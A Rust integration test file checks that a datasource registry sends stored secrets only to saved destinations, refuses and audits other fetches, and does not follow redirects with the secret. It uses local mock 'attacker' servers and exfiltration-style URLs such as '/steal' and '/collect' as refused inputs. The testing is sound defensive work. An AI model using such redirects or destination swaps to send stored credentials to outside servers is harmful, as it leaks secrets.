//! Stored secrets follow saved destinations. An operator (and an admin too) asks `RunTest`
//! to fetch a sample of an unsaved config that names a stored secret and points at a server
//! of their choosing; the registry refuses with PERMISSION_DENIED naming the rule, audits the
//! refusal, and that server receives nothing. The same host and port as a saved version, on
//! another path, is accepted. Test credentials passed in the request may go anywhere and the
//! stored secret is then not sent. A saved source redirecting elsewhere does not carry the
//! secret along. With no master key, a fetch that needs a stored secret is
//! refused instead of going out without it.

use std::sync::{Arc, Mutex};

use dsreg::api::grpc::auth::issue_token;
use dsreg::api::grpc::pb;
use dsreg::api::grpc::pb::datasources_client::DatasourcesClient;
use dsreg::api::grpc::pb::harness_client::HarnessClient;
use dsreg::api::grpc::pb::secrets_client::SecretsClient;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tonic::Code;
use tonic::transport::Channel;

use crate::helpers::{TestApp, TestDb};

const SECRET: &[u8] = b"exfiltration-test-secret-0123456789abcdef-0123";
const MASTER_KEYS: &str = "1:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";

/// A server that answers every request 200 with a JSON body echoing its `authorization`
/// header (as an attacker's would) and keeps every request it was sent.
pub(crate) async fn recorder() -> (u16, Arc<Mutex<String>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(String::new()));
    let kept = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let kept = kept.clone();
            tokio::spawn(async move {
                let mut buf = vec![0; 8192];
                let n = socket.read(&mut buf).await.unwrap_or(0);
                let request = String::from_utf8_lossy(&buf[..n]).into_owned();
                kept.lock().unwrap().push_str(&request);
                let authorization = request
                    .lines()
                    .find_map(|l| {
                        l.to_ascii_lowercase()
                            .starts_with("authorization:")
                            .then(|| l["authorization:".len()..].trim().to_owned())
                    })
                    .unwrap_or_default();
                let body = serde_json::json!({ "authorization": authorization }).to_string();
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    (port, seen)
}

fn token(role: &str) -> String {
    issue_token(
        SECRET,
        &serde_json::json!({
            "sub": format!("{role}@acme"), "iss": "test", "aud": "dsreg", "org": "acme",
            "roles": [role], "exp": chrono::Utc::now().timestamp() + 600,
        }),
    )
}

/// Adds a caller's bearer token to each request.
type Bearer =
    Box<dyn FnMut(tonic::Request<()>) -> Result<tonic::Request<()>, tonic::Status> + Send>;
type Authed = tonic::service::interceptor::InterceptedService<Channel, Bearer>;

fn harness(channel: &Channel, role: &str) -> HarnessClient<Authed> {
    HarnessClient::with_interceptor(channel.clone(), bearer(role))
}

fn bearer(role: &str) -> Bearer {
    let value: tonic::metadata::MetadataValue<_> =
        format!("Bearer {}", token(role)).parse().unwrap();
    Box::new(move |mut r: tonic::Request<()>| {
        r.metadata_mut().insert("authorization", value.clone());
        Ok(r)
    })
}

/// A registry verifying HS256 tokens, with `master_keys` (none: no key configured).
async fn serve(db: &TestDb, master_keys: Option<&str>) -> (TestApp, Channel, tempfile::TempDir) {
    let (mut settings, dir) = crate::helpers::hs256_settings(db, SECRET);
    settings.master_keys = master_keys.map(str::to_owned);
    let app = TestApp::spawn_with(settings, |_| {}).await;
    let channel = Channel::from_shared(format!("http://{}", app.grpc_addr))
        .unwrap()
        .connect()
        .await
        .unwrap();
    (app, channel, dir)
}

fn fetch(id: &str, config: serde_json::Value) -> pb::RunTestRequest {
    pb::RunTestRequest {
        datasource_id: id.to_owned(),
        config_json: config.to_string(),
        fetch_sample: true,
        ..Default::default()
    }
}

async fn run_test_audits(
    db: &TestDb,
) -> Vec<(String, String, Option<String>, Option<serde_json::Value>)> {
    db.client()
        .await
        .query(
            "SELECT actor, outcome, reason, diff FROM audit_log WHERE action = 'RunTest' ORDER BY id",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1), r.get(2), r.get(3)))
        .collect()
}

#[tokio::test]
async fn stored_secrets_go_only_to_destinations_an_admin_saved() {
    let db = TestDb::new().await;
    let (app, channel, _dir) = serve(&db, Some(MASTER_KEYS)).await;
    let (source_port, source_seen) = recorder().await;
    let (attacker_port, attacker_seen) = recorder().await;
    let stored = format!("stored-{}", uuid::Uuid::new_v4().simple());

    // An admin registers the source, its secret and a version calling it.
    let mut admin =
        DatasourcesClient::with_interceptor(channel.clone(), bearer("datasource:admin"));
    let id = admin
        .create_datasource(pb::CreateDatasourceRequest {
            org: "acme".into(),
            project: "ingest".into(),
            name: "api".into(),
            kind: "http_poll".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .id;
    SecretsClient::with_interceptor(channel.clone(), bearer("datasource:admin"))
        .put_secret(pb::PutSecretRequest {
            datasource_id: id.clone(),
            name: "token".into(),
            value: stored.clone().into_bytes(),
        })
        .await
        .unwrap();
    let saved_url = format!("http://127.0.0.1:{source_port}/v1/items");
    admin
        .create_version(pb::CreateVersionRequest {
            datasource_id: id.clone(),
            config_json: serde_json::json!({ "url": saved_url, "bearer_secret": "token" })
                .to_string(),
            comment: String::new(),
        })
        .await
        .unwrap();

    // Another host, another port of the same host, the same port under another host name:
    // refused for operators and admins alike, and nothing reaches the server.
    let elsewhere = [
        format!("http://127.0.0.1:{attacker_port}/steal"),
        format!("http://localhost:{source_port}/v1/items"),
        format!("https://127.0.0.1:{source_port}/v1/items"),
    ];
    for role in ["datasource:operator", "datasource:admin"] {
        for url in &elsewhere {
            let refused = harness(&channel, role)
                .run_test(fetch(
                    &id,
                    serde_json::json!({ "url": url, "bearer_secret": "token" }),
                ))
                .await
                .expect_err("an unsaved destination is refused");
            assert_eq!(
                refused.code(),
                Code::PermissionDenied,
                "{role} {url}: {refused:?}"
            );
            assert!(
                refused
                    .message()
                    .contains("stored secrets follow saved destinations"),
                "the refusal names the rule: {}",
                refused.message()
            );
            assert!(!refused.message().contains(&stored));
        }
    }
    assert!(
        attacker_seen.lock().unwrap().is_empty(),
        "the other server received a request"
    );
    assert!(
        source_seen.lock().unwrap().is_empty(),
        "the refused runs sent nothing to the saved host either"
    );

    // The saved host and port, on another path: the stored secret goes there.
    let same_host = format!("http://127.0.0.1:{source_port}/v2/other?limit=1");
    let report = harness(&channel, "datasource:operator")
        .run_test(fetch(
            &id,
            serde_json::json!({ "url": same_host, "bearer_secret": "token" }),
        ))
        .await
        .expect("the saved destination is accepted")
        .into_inner();
    assert_eq!(report.inputs, 1);
    assert!(
        source_seen
            .lock()
            .unwrap()
            .contains(&format!("Bearer {stored}")),
        "the saved source received the stored secret"
    );

    // Test credentials go anywhere; the stored secret stays home.
    let report = harness(&channel, "datasource:operator")
        .run_test(pb::RunTestRequest {
            test_secrets: [("token".to_owned(), "a-test-credential".to_owned())].into(),
            ..fetch(
                &id,
                serde_json::json!({ "url": elsewhere[0], "bearer_secret": "token" }),
            )
        })
        .await
        .expect("test credentials may go anywhere")
        .into_inner();
    assert!(
        report.outputs_json[0].contains("Bearer a-test-credential"),
        "{:?}",
        report.outputs_json
    );
    let attacker = attacker_seen.lock().unwrap().clone();
    assert!(attacker.contains("Bearer a-test-credential"));
    assert!(
        !attacker.contains(&stored),
        "the other server received the stored secret"
    );

    // Audited: each refusal as denied with the rule and the caller, the accepted run with
    // the secret's name and its destination; never a value.
    let audits = run_test_audits(&db).await;
    let denied: Vec<_> = audits.iter().filter(|a| a.1 == "denied").collect();
    assert_eq!(denied.len(), 6, "{audits:?}");
    assert!(denied.iter().any(|a| a.0 == "datasource:operator@acme"));
    assert!(denied.iter().any(|a| a.0 == "datasource:admin@acme"));
    assert!(denied.iter().all(|a| {
        a.2.as_deref()
            .is_some_and(|r| r.contains("saved destinations"))
    }));
    let accepted: Vec<_> = audits.iter().filter(|a| a.1 == "ok").collect();
    assert_eq!(accepted.len(), 1, "{audits:?}");
    let diff = accepted[0].3.clone().unwrap();
    assert_eq!(diff["secrets"], serde_json::json!(["token"]));
    assert_eq!(
        diff["destinations"],
        serde_json::json!([format!("http://127.0.0.1:{source_port}")])
    );
    assert!(!format!("{audits:?}").contains(&stored));
    app.stop().await.unwrap();
}

#[tokio::test]
async fn with_no_master_key_a_fetch_needing_a_secret_is_refused_not_sent_without_it() {
    let db = TestDb::new().await;
    let (app, channel, _dir) = serve(&db, None).await;
    let (port, seen) = recorder().await;
    let ds = db.datasource_of("api", "http_poll").await;
    let config =
        serde_json::json!({ "url": format!("http://127.0.0.1:{port}/"), "bearer_secret": "token" });
    let version = db.version(ds.id, config).await;
    let refused = harness(&channel, "datasource:operator")
        .run_test(pb::RunTestRequest {
            datasource_id: ds.id.to_string(),
            version,
            fetch_sample: true,
            ..Default::default()
        })
        .await
        .expect_err("the credential cannot be opened");
    assert_eq!(refused.code(), Code::FailedPrecondition, "{refused:?}");
    assert!(
        refused.message().contains("secrets.token") && refused.message().contains("master key"),
        "{}",
        refused.message()
    );
    assert!(seen.lock().unwrap().is_empty(), "nothing was fetched");
    app.stop().await.unwrap();
}

/// A server that answers every request with a redirect to `target` and keeps what it was sent.
async fn redirecting_to(target: String) -> (u16, Arc<Mutex<String>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(String::new()));
    let kept = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let kept = kept.clone();
            let target = target.clone();
            tokio::spawn(async move {
                let mut buf = vec![0; 8192];
                let n = socket.read(&mut buf).await.unwrap_or(0);
                kept.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&buf[..n]));
                let answer = format!(
                    "HTTP/1.1 302 Found\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    (port, seen)
}

#[tokio::test]
async fn a_saved_source_redirecting_elsewhere_does_not_carry_the_secret_along() {
    let db = TestDb::new().await;
    let (app, channel, _dir) = serve(&db, Some(MASTER_KEYS)).await;
    let (attacker_port, attacker_seen) = recorder().await;
    let (source_port, source_seen) =
        redirecting_to(format!("http://127.0.0.1:{attacker_port}/collect")).await;
    let stored = format!("stored-{}", uuid::Uuid::new_v4().simple());
    let ds = db.datasource_of("api", "http_poll").await;
    crate::helpers::put_secret(&db, MASTER_KEYS, ds.id, "token", &stored).await;
    let version = db
        .version(
            ds.id,
            serde_json::json!({ "url": format!("http://127.0.0.1:{source_port}/"), "bearer_secret": "token" }),
        )
        .await;
    let report = harness(&channel, "datasource:operator")
        .run_test(pb::RunTestRequest {
            datasource_id: ds.id.to_string(),
            version,
            fetch_sample: true,
            ..Default::default()
        })
        .await
        .expect("the redirect is followed")
        .into_inner();
    assert!(
        source_seen
            .lock()
            .unwrap()
            .contains(&format!("Bearer {stored}")),
        "the saved source received the secret"
    );
    let attacker = attacker_seen.lock().unwrap().clone();
    assert!(
        attacker.contains("GET /collect"),
        "the redirect was followed"
    );
    assert!(
        !attacker.contains(&stored),
        "the redirect target received the secret"
    );
    assert!(!format!("{report:?}").contains(&stored));
    app.stop().await.unwrap();
}
